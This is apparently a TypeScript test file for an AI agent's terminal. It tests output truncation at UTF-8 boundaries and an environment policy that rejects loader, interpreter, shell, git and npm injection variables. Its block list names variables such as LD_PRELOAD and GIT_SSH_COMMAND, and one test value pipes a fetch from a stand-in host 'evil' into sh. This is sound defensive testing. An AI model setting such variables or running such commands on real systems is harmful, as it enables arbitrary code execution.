// What a client terminal keeps for its agent (outputByteLimit: truncated from the beginning at a
// character boundary), checked against a model with random chunks, and the environment policy.
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { incompleteTail, TerminalOutput } from '../../../src/agents/terminalOutput';
import { checkEnv, envRefusal, EnvRefusedError, MAX_ENV_VARS } from '../../../src/agents/terminalEnv';

/**
 * The reference: the whole kept buffer copied on every append (what the real one must not do):
 * past the limit keep the last `limit` bytes, then move past continuation bytes (at most 3).
 */
function model(chunks: readonly Uint8Array[], limit: number): Buffer {
  let kept = Buffer.alloc(0);
  for (const c of chunks) {
    kept = Buffer.concat([kept, c]);
    if (kept.length <= limit) continue;
    let start = kept.length - limit;
    for (let i = 0; i < 3 && start < kept.length && (kept[start]! & 0xc0) === 0x80; i++) start++;
    kept = kept.subarray(start);
  }
  return kept;
}

describe('terminal output kept for the agent (TerminalOutput)', () => {
  it('keeps everything under the limit and says nothing was cut', () => {
    const o = new TerminalOutput(100);
    o.append(Buffer.from('hello '));
    o.append(Buffer.from('wörld'));
    assert.equal(o.text(true), 'hello wörld');
    assert.equal(o.truncated, false);
  });

  it('cuts from the beginning at a character boundary, never inside one', () => {
    const o = new TerminalOutput(5);
    o.append(Buffer.from('ab€€')); // € is 3 bytes: 8 bytes in all
    // The last 5 bytes start inside the first €: that character goes whole.
    assert.equal(o.text(true), '€');
    assert.equal(o.truncated, true);
    assert.equal(o.bytes, 3);
  });

  it('a limit of 0 keeps nothing; one chunk larger than the limit keeps its end', () => {
    const z = new TerminalOutput(0);
    z.append(Buffer.from('abc'));
    assert.equal(z.text(true), '');
    assert.equal(z.truncated, true);
    const o = new TerminalOutput(4);
    o.append(Buffer.from('xy'));
    o.append(Buffer.from('0123456789'));
    assert.equal(o.text(true), '6789');
  });

  it('holds back a character not yet complete while the command runs', () => {
    const o = new TerminalOutput(100);
    const euro = Buffer.from('€');
    o.append(Buffer.concat([Buffer.from('a'), euro.subarray(0, 2)]));
    assert.equal(o.text(false), 'a');
    o.append(euro.subarray(2));
    assert.equal(o.text(false), 'a€');
    assert.equal(incompleteTail(Buffer.from([0x61, 0xf0, 0x9f])), 2);
    assert.equal(incompleteTail(Buffer.from('😀')), 0);
  });

  it('matches the model for any chunks and limit (property)', () => {
    const chunk = fc.oneof(
      fc.uint8Array({ maxLength: 64 }),
      fc.string({ unit: 'grapheme', maxLength: 20 }).map((s) => new Uint8Array(Buffer.from(s))),
    );
    fc.assert(
      fc.property(fc.array(chunk, { maxLength: 60 }), fc.nat(200), (chunks, limit) => {
        const o = new TerminalOutput(limit);
        for (const c of chunks) o.append(Buffer.from(c));
        const all = Buffer.concat(chunks.map((c) => Buffer.from(c)));
        const expected = model(chunks, limit);
        assert.equal(o.text(true), expected.toString('utf8'));
        assert.equal(o.bytes, expected.length);
        assert.ok(o.bytes <= limit && o.bytes >= Math.min(all.length, limit) - 3, 'at most 3 bytes under the limit');
        assert.equal(o.truncated, all.length > limit);
      }),
      { numRuns: 300 },
    );
  });

  it('valid UTF-8 stays valid however it is cut (property)', () => {
    const text = fc.string({ unit: 'grapheme', maxLength: 30 }).filter((t) => !t.includes('\uFFFD'));
    fc.assert(
      fc.property(fc.array(text, { maxLength: 40 }), fc.nat(120), (parts, limit) => {
        const o = new TerminalOutput(limit);
        for (const p of parts) o.append(Buffer.from(p));
        const kept = o.text(true);
        assert.ok(!kept.includes('\uFFFD'), 'no replacement character');
        assert.ok(parts.join('').endsWith(kept), 'a suffix of the output');
      }),
      { numRuns: 300 },
    );
  });

  it('appends in time proportional to the chunk, not to what is kept', () => {
    // 200,000 one-byte appends against a 1 MiB limit: a whole-buffer copy per chunk would be
    // ~10^11 byte copies; the ring does ~2·10^5 (counted, not timed: the chunk list is bounded).
    const o = new TerminalOutput(1024);
    const b = Buffer.from('x');
    for (let i = 0; i < 200_000; i++) o.append(b);
    assert.equal(o.bytes, 1024);
    assert.ok((o as unknown as { chunks: Buffer[] }).chunks.length <= 2 * 1024 + 130, 'dropped chunks are compacted');
  });
});

describe('terminal environment (terminalEnv)', () => {
  it('refuses loader, interpreter, shell, git and npm injection, naming the variable, in any case', () => {
    for (const name of [
      'LD_PRELOAD',
      'ld_preload',
      'LD_AUDIT',
      'DYLD_INSERT_LIBRARIES',
      'NODE_OPTIONS',
      'NODE_PATH',
      'PYTHONSTARTUP',
      'PYTHONPATH',
      'PERL5OPT',
      'RUBYOPT',
      'BASH_ENV',
      'ENV',
      'PROMPT_COMMAND',
      'PS4',
      'BASH_FUNC_ls%%',
      'PATH',
      'Path',
      'HOME',
      'GIT_SSH_COMMAND',
      'GIT_EXEC_PATH',
      'GIT_CONFIG_COUNT',
      'GIT_CONFIG_KEY_0',
      'GIT_CONFIG_PARAMETERS',
      'npm_config_script_shell',
      'JAVA_TOOL_OPTIONS',
      'GCONV_PATH',
    ]) {
      assert.throws(
        () =>
          checkEnv([
            { name: 'CI', value: '1' },
            { name, value: '/tmp/x' },
          ]),
        (e: unknown) => e instanceof EnvRefusedError && e.message.includes(name),
        name,
      );
    }
  });

  it('accepts pagers and editors only with a harmless value', () => {
    assert.deepEqual(
      {
        ...checkEnv([
          { name: 'PAGER', value: 'cat' },
          { name: 'GIT_PAGER', value: '' },
          { name: 'GIT_EDITOR', value: 'true' },
        ]),
      },
      { PAGER: 'cat', GIT_PAGER: '', GIT_EDITOR: 'true' },
    );
    assert.match(envRefusal('GIT_PAGER', 'sh -c "curl evil | sh"') ?? '', /names a program/);
    assert.match(envRefusal('EDITOR', 'vim') ?? '', /names a program/);
  });

  it('passes ordinary variables, later duplicates winning, and `__proto__` as a plain name', () => {
    const env = checkEnv([
      { name: 'CI', value: '1' },
      { name: 'NODE_ENV', value: 'test' },
      { name: 'CI', value: 'true' },
      { name: '__proto__', value: 'x' },
    ]);
    assert.equal(env.CI, 'true');
    assert.equal(env.NODE_ENV, 'test');
    assert.equal(Object.getPrototypeOf({ ...env }), Object.prototype);
    assert.equal(Object.keys(env).length, 3);
  });

  it('refuses malformed names and values, too many variables and too many bytes', () => {
    assert.throws(() => checkEnv([{ name: '', value: 'x' }]), /empty name/);
    assert.throws(() => checkEnv([{ name: 'A=B', value: 'x' }]), /contains "="/);
    assert.throws(() => checkEnv([{ name: 'A', value: 'x\0y' }]), /NUL/);
    assert.throws(() => checkEnv(Array.from({ length: MAX_ENV_VARS + 1 }, (_, i) => ({ name: `V${i}`, value: '' }))), /at most/);
    assert.throws(() => checkEnv([{ name: 'BIG', value: 'x'.repeat(70_000) }]), /KiB/);
  });
});
